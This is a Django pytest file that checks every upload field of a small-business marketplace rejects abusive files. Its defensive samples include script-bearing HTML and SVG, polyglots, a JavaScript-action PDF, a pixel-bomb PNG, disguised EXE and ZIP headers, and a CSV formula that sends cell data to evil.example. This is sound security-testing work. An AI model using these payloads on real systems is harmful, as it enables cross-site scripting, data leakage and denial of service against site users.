"""Upload abuse, through every place that takes a file.

The places are found, not listed by hand: every FileField/ImageField of the models,
every form field that takes a file, and every file field of the admin's forms. A new
one fails ``test_every_upload_field_is_covered`` until it is added to ``PATHS`` here.

Each place gets, through its real view and as the person who may use it: a
decompression bomb, a truncated picture, polyglots (a real GIF with HTML after it, an
HTML page named .png), a file of another kind under a PDF or JPEG name, an SVG with a
script, and a file just over the size limit. Each is refused with its message in the
user's language, no row is added or changed and no file is left in either store; a
PNG with HTML appended is accepted, but only its pixels are kept. The product CSV
import has its own cases at the end.
"""

from __future__ import annotations

import html
import io
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path

import pytest
from django import forms
from django.apps import apps
from django.conf import settings
from django.contrib import admin
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db.models import FileField
from django.template.defaultfilters import filesizeformat
from django.test import Client, RequestFactory
from django.urls import get_resolver, reverse
from django.utils import timezone, translation
from django.utils.translation import gettext
from PIL import Image

from core import pdf_safety, uploads
from marketplace.models import Inquiry, InquiryMessage
from mentoring.models import SessionMaterial, TrainingSession
from outcomes.models import Shipment
from umkm import csv_io
from umkm.models import Business, BusinessPhoto, Certification, Product, ProductImage

from ..factories import (
    BusinessFactory,
    BuyerFactory,
    CertificationFactory,
    ListedProductFactory,
    MentorFactory,
    OwnerFactory,
    ProductFactory,
    StaffFactory,
    SubCategoryFactory,
)
from ..support.forms_as_sent import admin_data, form_data, signed_in
from ..support.pdfs import PAGES, catalog, pdf_file

pytestmark = pytest.mark.django_db

OUR_APPS = (
    "accounts",
    "backoffice",
    "core",
    "umkm",
    "mentoring",
    "marketplace",
    "notifications",
    "outcomes",
    "pages",
    "config",
)
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
MB = 1024 * 1024


# Files -------------------------------------------------------------------------------


def picture(fmt: str, size=(64, 48)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 120, 40)).save(buffer, format=fmt)
    return buffer.getvalue()


def png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims ``width`` × ``height`` pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data) & 0xFFFFFFFF
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + chunk(b"IEND", b"")
    )


SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.cookie)</script><rect width='10' height='10'/></svg>"
)
ZIP = b"PK\x03\x04" + b"\x14\x00" * 10 + b"word/document.xml" + b"\x00" * 64
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 48 + b"PE\x00\x00"
# PDFs are parsed, so they are written whole: catalog, page, cross-reference.
ACTIVE_PDF = pdf_file(catalog(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), *PAGES)
# The same action between "stream" and "endstream" spelled in comments (a byte scan
# took it for stream data).
HIDDEN_ACTIVE_PDF = pdf_file(
    catalog(b"% stream\n/OpenAction << /S /JavaScript /JS (app.alert(1)) >> % endstream\n"),
    *PAGES,
)


def oversized(tmp_path: Path, limit: int, name: str):
    """A sparse file one byte over ``limit``: costs no disk, read once by the client."""
    path = tmp_path / "upload-source" / name
    path.parent.mkdir(exist_ok=True)
    with path.open("wb") as handle:
        handle.truncate(limit + 1)
    return path


@dataclass(frozen=True)
class Abuse:
    name: str
    filename: str
    content_type: str
    make: Callable[[], bytes] | None  # None: the oversized file, made on disk
    message: object  # the msgid (and its parameters) the user must read
    params: dict | None = None


IMAGE_ABUSE = [
    Abuse(
        "bomb",
        "huge.png",
        "image/png",
        lambda: png_claiming(50_000, 50_000),
        uploads.MSG_TOO_MANY_PIXELS,
        {"max": "40"},
    ),
    Abuse(
        "truncated",
        "cut.jpg",
        "image/jpeg",
        lambda: picture("JPEG", (400, 300))[:600],
        uploads.MSG_DAMAGED,
    ),
    Abuse(
        "gif-polyglot",
        "photo.gif",
        "image/gif",
        lambda: picture("GIF") + HTML,
        uploads.MSG_NOT_AN_IMAGE,
    ),
    Abuse("html-as-png", "photo.png", "image/png", lambda: HTML, uploads.MSG_NOT_AN_IMAGE),
    Abuse("pdf-as-jpg", "photo.jpg", "image/jpeg", lambda: PDF, uploads.MSG_NOT_AN_IMAGE),
    Abuse("svg-script", "logo.svg", "image/svg+xml", lambda: SVG, uploads.MSG_NOT_AN_IMAGE),
    Abuse("oversized", "big.jpg", "image/jpeg", None, uploads.MSG_PHOTO_TOO_LARGE, {"max": "10"}),
]
DOCUMENT_ABUSE = [
    Abuse(
        "bomb",
        "scan.png",
        "image/png",
        lambda: png_claiming(50_000, 50_000),
        uploads.MSG_TOO_MANY_PIXELS,
        {"max": "40"},
    ),
    Abuse(
        "truncated",
        "scan.png",
        "image/png",
        lambda: picture("PNG", (400, 300))[:300],
        uploads.MSG_DAMAGED,
    ),
    Abuse(
        "gif-polyglot",
        "scan.gif",
        "image/gif",
        lambda: picture("GIF") + HTML,
        uploads.MSG_NOT_A_DOCUMENT,
    ),
    Abuse("html-as-pdf", "paper.pdf", "application/pdf", lambda: HTML, uploads.MSG_NOT_A_DOCUMENT),
    Abuse("zip-as-pdf", "paper.pdf", "application/pdf", lambda: ZIP, uploads.MSG_NOT_A_DOCUMENT),
    Abuse("exe-as-pdf", "paper.pdf", "application/pdf", lambda: EXE, uploads.MSG_NOT_A_DOCUMENT),
    Abuse("svg-script", "paper.svg", "image/svg+xml", lambda: SVG, uploads.MSG_NOT_A_DOCUMENT),
    Abuse(
        "active-pdf", "paper.pdf", "application/pdf", lambda: ACTIVE_PDF, pdf_safety.MSG_PDF_ACTIVE
    ),
    Abuse(
        "hidden-active-pdf",
        "paper.pdf",
        "application/pdf",
        lambda: HIDDEN_ACTIVE_PDF,
        pdf_safety.MSG_PDF_ACTIVE,
    ),
    Abuse(
        "oversized",
        "paper.pdf",
        "application/pdf",
        None,
        uploads.MSG_DOCUMENT_TOO_LARGE,
        {"max": "5"},
    ),
]
LIMITS = {"image": uploads.IMAGE_MAX_BYTES, "document": uploads.DOCUMENT_MAX_BYTES}


# The places that take a file -----------------------------------------------------------


@dataclass
class Submission:
    client: Client
    url: str
    data: dict
    field: str  # the POST key the file goes into
    stored: Callable[[], list[str]]  # names of the files the target holds now


def superuser():
    return StaffFactory(is_superuser=True)


def owner_with_business():
    owner = OwnerFactory()
    return owner, BusinessFactory(owner=owner)


def business_logo() -> Submission:
    owner, business = owner_with_business()
    client = signed_in(owner)
    url = reverse("umkm:business-edit", args=[business.slug])
    data = form_data(client.get(url).context["form"])
    return Submission(
        client, url, data, "logo", lambda: [Business.objects.get(pk=business.pk).logo.name]
    )


def business_photo() -> Submission:
    owner, business = owner_with_business()
    client = signed_in(owner)
    url = reverse("umkm:business-edit", args=[business.slug])
    data = {**form_data(client.get(url).context["form"]), "add_photo_alt": "Our workshop"}
    return Submission(
        client,
        url,
        data,
        "add_photo",
        lambda: [p.image.name for p in BusinessPhoto.objects.filter(business=business)],
    )


def certificate_document() -> Submission:
    owner, business = owner_with_business()
    data = {"kind": "halal", "number": "ID-0001", "issuer": "BPJPH", "issued_on": "2024-03-01"}
    return Submission(
        signed_in(owner),
        reverse("umkm:certification-list", args=[business.slug]),
        data,
        "document",
        lambda: [c.document.name for c in Certification.objects.filter(business=business)],
    )


def product_photo() -> Submission:
    owner, business = owner_with_business()
    product = ProductFactory(business=business)
    return Submission(
        signed_in(owner),
        reverse("umkm:product-images", args=[product.pk]),
        {"alt_text": "Chips in a pouch"},
        "image",
        lambda: [i.image.name for i in ProductImage.objects.filter(product=product)],
    )


def upcoming_session(host) -> TrainingSession:
    starts = (timezone.now() + timedelta(days=7)).replace(second=0, microsecond=0)
    return TrainingSession.objects.create(
        host=host,
        title="Pelatihan ekspor",
        topic="export",
        starts_at=starts,
        ends_at=starts + timedelta(hours=2),
        registration_deadline=starts - timedelta(hours=2),
        mode=TrainingSession.Mode.OFFLINE,
        venue="Aula",
        city="Pekanbaru",
        capacity=10,
        status=TrainingSession.Status.PUBLISHED,
    )


def session_material() -> Submission:
    mentor = MentorFactory()
    session = upcoming_session(mentor)
    return Submission(
        signed_in(mentor),
        reverse("mentoring:session-materials", args=[session.pk]),
        {"title": "Slides"},
        "file",
        lambda: [m.file.name for m in SessionMaterial.objects.filter(session=session)],
    )


def shipment_document() -> Submission:
    owner, business = owner_with_business()
    data = {
        "shipped_on": (timezone.localdate() - timedelta(days=3)).isoformat(),
        "buyer_country": "NL",
        "products": "Keripik nanas",
        "value_usd": "1200.00",
        "incoterm": "FOB",
        "document_kind": "invoice",
    }
    return Submission(
        signed_in(owner),
        reverse("outcomes:shipment-create", args=[business.slug]),
        data,
        "document",
        lambda: [s.document.name for s in Shipment.objects.filter(business=business)],
    )


def attachments() -> list[str]:
    return [m.attachment.name for m in InquiryMessage.objects.exclude(attachment="")]


def inquiry_attachment() -> Submission:
    product = ListedProductFactory()
    data = {
        "quantity": "500",
        "unit": "pack",
        "incoterm": "FOB",
        "destination_country": "NL",
        "message": "Please quote 500 packs, FOB Dumai.",
        "website_url": "",
    }
    return Submission(
        signed_in(BuyerFactory()),
        reverse("marketplace:inquiry-create-product", args=[product.slug]),
        data,
        "attachment",
        attachments,
    )


def thread() -> Inquiry:
    business = BusinessFactory()
    inquiry = Inquiry.objects.create(
        buyer=BuyerFactory(),
        business=business,
        subject="Pineapple chips",
        quantity=500,
        unit="pack",
        incoterm="FOB",
        destination_country="NL",
    )
    InquiryMessage.objects.create(
        inquiry=inquiry, author=inquiry.buyer, author_role="buyer", body="Please quote."
    )
    return inquiry


def reply_attachment() -> Submission:
    inquiry = thread()
    return Submission(
        signed_in(inquiry.business.owner),
        reverse("marketplace:inquiry-reply", args=[inquiry.pk]),
        {"body": "Our quotation is attached."},
        "attachment",
        attachments,
    )


def _admin_change(obj, field: str) -> Submission:
    """The admin's change form of ``obj``, uploading into its ``field``."""
    client = signed_in(superuser())
    url = reverse(f"admin:{obj._meta.app_label}_{obj._meta.model_name}_change", args=[obj.pk])
    model = type(obj)
    return Submission(
        client,
        url,
        admin_data(client, url),
        field,
        lambda: [getattr(model.objects.get(pk=obj.pk), field).name],
    )


def admin_business_logo() -> Submission:
    return _admin_change(BusinessFactory(), "logo")


def admin_business_photo() -> Submission:
    business = BusinessFactory()
    client = signed_in(superuser())
    url = reverse("admin:umkm_business_change", args=[business.pk])
    data = admin_data(client, url)
    # One more row in the profile photo inline.
    prefix = next(key for key in data if key.endswith("-TOTAL_FORMS") and "photos" in key)
    prefix = prefix.removesuffix("-TOTAL_FORMS")
    index = int(data[f"{prefix}-TOTAL_FORMS"])
    data[f"{prefix}-TOTAL_FORMS"] = str(index + 1)
    data[f"{prefix}-{index}-alt_text"] = "Workshop"
    return Submission(
        client,
        url,
        data,
        f"{prefix}-{index}-image",
        lambda: [p.image.name for p in BusinessPhoto.objects.filter(business=business)],
    )


def admin_certificate_document() -> Submission:
    return _admin_change(CertificationFactory(), "document")


def admin_product_photo() -> Submission:
    product = ProductFactory()
    client = signed_in(superuser())
    url = reverse("admin:umkm_product_change", args=[product.pk])
    data = admin_data(client, url)
    # One more row in the photo inline.
    prefix = next(key for key in data if key.endswith("-TOTAL_FORMS") and "images" in key)
    prefix = prefix.removesuffix("-TOTAL_FORMS")
    index = int(data[f"{prefix}-TOTAL_FORMS"])
    data[f"{prefix}-TOTAL_FORMS"] = str(index + 1)
    data.update({f"{prefix}-{index}-alt_text": "Front", f"{prefix}-{index}-position": "0"})
    return Submission(
        client,
        url,
        data,
        f"{prefix}-{index}-image",
        lambda: [i.image.name for i in ProductImage.objects.filter(product=product)],
    )


def admin_session_material() -> Submission:
    session = upcoming_session(MentorFactory())
    material = SessionMaterial(session=session, title="Slides")
    material.file.save("slides.pdf", ContentFile(PDF))
    client = signed_in(superuser())
    url = reverse("admin:mentoring_sessionmaterial_change", args=[material.pk])
    return Submission(
        client,
        url,
        admin_data(client, url),
        "file",
        lambda: [SessionMaterial.objects.get(pk=material.pk).file.name],
    )


@dataclass(frozen=True)
class Path_:
    covers: str  # the form field (or admin field) this place is
    kind: str  # "image" or "document"
    prepare: Callable[[], Submission]


PATHS = {
    "business-logo": Path_("umkm.forms.BusinessForm.logo", "image", business_logo),
    "business-photo": Path_("umkm.forms.BusinessForm.add_photo", "image", business_photo),
    "certificate": Path_("umkm.forms.CertificationForm.document", "document", certificate_document),
    "product-photo": Path_("umkm.forms.ProductImageForm.image", "image", product_photo),
    "shipment-document": Path_(
        "outcomes.forms.ShipmentForm.document", "document", shipment_document
    ),
    "session-material": Path_(
        "mentoring.forms.trainings.MaterialForm.file", "document", session_material
    ),
    "inquiry-attachment": Path_(
        "marketplace.forms.inquiries.InquiryForm.attachment", "document", inquiry_attachment
    ),
    "reply-attachment": Path_(
        "marketplace.forms.inquiries.ReplyForm.attachment", "document", reply_attachment
    ),
    "admin-business-logo": Path_("admin:umkm.Business.logo", "image", admin_business_logo),
    "admin-business-photo": Path_("admin:umkm.BusinessPhoto.image", "image", admin_business_photo),
    "admin-certificate": Path_(
        "admin:umkm.Certification.document", "document", admin_certificate_document
    ),
    "admin-product-photo": Path_("admin:umkm.ProductImage.image", "image", admin_product_photo),
    "admin-session-material": Path_(
        "admin:mentoring.SessionMaterial.file", "document", admin_session_material
    ),
}
# Covered by their own cases below, not by the picture and document abuse.
CSV_IMPORT = "umkm.forms.CsvImportForm.file"
# Model fields and where their uploads come in.
MODEL_FIELDS = {
    "umkm.Business.logo": "business-logo, admin-business-logo",
    "umkm.BusinessPhoto.image": "business-photo, admin-business-photo",
    "umkm.Certification.document": "certificate, admin-certificate",
    "umkm.ProductImage.image": "product-photo, admin-product-photo",
    "umkm.ProductImage.thumb_small": "made by the thumbnail task from the checked photo",
    "umkm.ProductImage.thumb_large": "made by the thumbnail task from the checked photo",
    "mentoring.SessionMaterial.file": "session-material, admin-session-material",
    # Recorded on the site only: the outcomes admin is read-only.
    "outcomes.Shipment.document": "shipment-document",
    # The admin shows a message's attachment but does not take one (written on the site).
    "marketplace.InquiryMessage.attachment": "inquiry-attachment, reply-attachment",
}


# Finding every upload field ----------------------------------------------------------


def model_file_fields() -> set[str]:
    return {
        f"{model._meta.label}.{field.name}"
        for model in apps.get_models()
        for field in model._meta.get_fields()
        if isinstance(field, FileField)
    }


def _subclasses(cls):
    for sub in cls.__subclasses__():
        yield sub
        yield from _subclasses(sub)


def form_file_fields() -> set[str]:
    get_resolver().url_patterns  # noqa: B018 - imports every view, and so every form
    return {
        f"{form.__module__}.{form.__qualname__}.{name}"
        for form in set(_subclasses(forms.BaseForm))
        if form.__module__.split(".")[0] in OUR_APPS
        for name, field in form.base_fields.items()
        if isinstance(field, forms.FileField)
    }


def admin_file_fields() -> set[str]:
    request = RequestFactory().get("/admin/")
    request.user = superuser()
    found = set()
    for model, model_admin in admin.site._registry.items():
        if not (
            model_admin.has_add_permission(request) or model_admin.has_change_permission(request)
        ):
            continue  # a read-only admin takes no file
        forms_ = [(model, model_admin.get_form(request))]
        forms_ += [
            (inline.model, inline.get_formset(request).form)
            for inline in model_admin.get_inline_instances(request)
        ]
        for owner, form in forms_:
            for name, field in form.base_fields.items():
                if isinstance(field, forms.FileField):
                    found.add(f"admin:{owner._meta.label}.{name}")
    return found


def test_every_upload_field_is_covered():
    assert model_file_fields() == set(MODEL_FIELDS), "say where each new file field is tested"
    covered = {path.covers for path in PATHS.values()} | {CSV_IMPORT}
    found = form_file_fields() | admin_file_fields()
    assert found == covered, f"not covered: {found - covered}; gone: {covered - found}"


# Running the abuse ---------------------------------------------------------------------


def files_in_stores() -> set[Path]:
    roots = [Path(settings.MEDIA_ROOT), Path(settings.MEDIA_ROOT).parent / "private"]
    return {p for root in roots if root.exists() for p in root.rglob("*") if p.is_file()}


def rows() -> dict[str, int]:
    labels = ("umkm", "mentoring", "marketplace", "notifications")
    return {
        m._meta.label: m.objects.count() for m in apps.get_models() if m._meta.app_label in labels
    }


def page_text(response) -> str:
    return html.unescape(response.content.decode())


def expected(abuse: Abuse, language: str) -> str:
    with translation.override(language):
        message = str(abuse.message)
    return message % abuse.params if abuse.params else message


def upload_for(abuse: Abuse, kind: str, tmp_path: Path):
    if abuse.make is None:
        return oversized(tmp_path, LIMITS[kind], abuse.filename).open("rb")
    return SimpleUploadedFile(abuse.filename, abuse.make(), content_type=abuse.content_type)


def abuse_params():
    for key, path in PATHS.items():
        for abuse in IMAGE_ABUSE if path.kind == "image" else DOCUMENT_ABUSE:
            yield pytest.param(key, abuse, id=f"{key}-{abuse.name}")


@pytest.mark.no_cover  # a matrix: see the README, "Coverage"
@pytest.mark.parametrize(("place", "abuse"), list(abuse_params()))
def test_abusive_upload_is_refused_and_nothing_is_stored(place, abuse, tmp_path):
    path = PATHS[place]
    submission = path.prepare()
    stored_before, rows_before, files_before = submission.stored(), rows(), files_in_stores()
    upload = upload_for(abuse, path.kind, tmp_path)
    try:
        response = submission.client.post(
            submission.url, {**submission.data, submission.field: upload}
        )
    finally:
        upload.close()
    assert response.status_code in (200, 400), response.status_code
    # In the user's language (owners Indonesian, buyers English by default).
    assert expected(abuse, response.wsgi_request.LANGUAGE_CODE) in page_text(response)
    assert submission.stored() == stored_before
    assert rows() == rows_before
    assert files_in_stores() == files_before


@pytest.mark.parametrize("place", sorted(PATHS))
def test_a_png_with_html_appended_keeps_only_its_pixels(place):
    """The control: the place does store a good file, re-encoded under a new name."""
    path = PATHS[place]
    submission = path.prepare()
    before = set(submission.stored())
    upload = SimpleUploadedFile("photo.png", picture("PNG") + HTML, content_type="image/png")
    response = submission.client.post(submission.url, {**submission.data, submission.field: upload})
    assert response.status_code == 302, page_text(response)[-3000:]
    new = [name for name in submission.stored() if name and name not in before]
    assert len(new) == 1
    assert not new[0].endswith("photo.png")  # a generated name, never the user's
    stored = next(p for p in files_in_stores() if p.as_posix().endswith(new[0]))
    data = stored.read_bytes()
    assert b"<script" not in data
    assert b"<html" not in data.lower()
    Image.open(io.BytesIO(data)).verify()


# The product CSV import ----------------------------------------------------------------


@pytest.fixture
def importer():
    owner, business = owner_with_business()
    category = SubCategoryFactory(name_en="Snacks")
    return signed_in(owner), business, category


def import_url(business) -> str:
    return reverse("umkm:product-import", args=[business.slug])


def not_csv() -> str:
    with translation.override("id"):
        return csv_io._not_csv()


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(picture("PNG"), id="png"),
        pytest.param(ZIP + b"\x00" * 100, id="xlsx"),
        pytest.param(EXE, id="exe"),
        pytest.param("name_id\r\nKeripik\r\n".encode("utf-16-le"), id="utf16-without-bom"),
    ],
)
def test_a_binary_file_is_not_imported(importer, data):
    client, business, _category = importer
    files_before = files_in_stores()
    upload = SimpleUploadedFile("products.csv", data, content_type="text/csv")
    response = client.post(import_url(business), {"file": upload})
    assert response.status_code == 200
    assert not_csv() in page_text(response)
    assert not Product.objects.filter(business=business).exists()
    assert files_in_stores() == files_before


def test_a_huge_csv_is_refused_before_it_is_read(importer, tmp_path):
    client, business, _category = importer
    source = oversized(tmp_path, csv_io.MAX_BYTES, "products.csv")
    with source.open("rb") as upload:
        response = client.post(import_url(business), {"file": upload})
    assert response.status_code == 200
    with translation.override("id"):
        message = gettext("The file is larger than %(size)s; split it into smaller files.") % {
            "size": filesizeformat(csv_io.MAX_BYTES)
        }
    assert message in page_text(response)
    assert not Product.objects.filter(business=business).exists()


def test_formulas_are_imported_as_text_and_exported_disarmed(importer):
    """A cell a spreadsheet would run (=, +, -, @) is kept as the owner typed it, shown
    escaped, and written back with a leading apostrophe, which the import removes."""
    client, business, category = importer
    formula = '=HYPERLINK("http://evil.example/?"&A1,"<b>klik</b>")'
    content = (
        "name_id,name_en,category,unit,description_id\r\n"
        f'"{formula.replace(chr(34), chr(34) * 2)}",@SUM(1+1),{category.slug},pack,-2+3\r\n'
    )
    upload = SimpleUploadedFile("products.csv", content.encode(), content_type="text/csv")
    response = client.post(import_url(business), {"file": upload})
    assert response.status_code == 302, page_text(response)[-2000:]
    product = Product.objects.get(business=business)
    assert (product.name_id, product.name_en, product.description_id) == (
        formula,
        "@SUM(1+1)",
        "-2+3",
    )
    page = client.get(reverse("umkm:product-detail", args=[product.pk])).content.decode()
    assert "<b>klik</b>" not in page
    exported = client.get(reverse("umkm:product-export", args=[business.slug]))
    text = exported.content.decode("utf-8-sig")
    assert f'"\'{formula.replace(chr(34), chr(34) * 2)}"' in text
    assert "'@SUM(1+1)" in text and "'-2+3" in text
    # The export imports back unchanged (into another business).
    other = BusinessFactory(owner=OwnerFactory())
    again = signed_in(other.owner).post(
        import_url(other),
        {"file": SimpleUploadedFile("again.csv", text.encode(), content_type="text/csv")},
    )
    assert again.status_code == 302
    assert Product.objects.get(business=other).name_id == formula
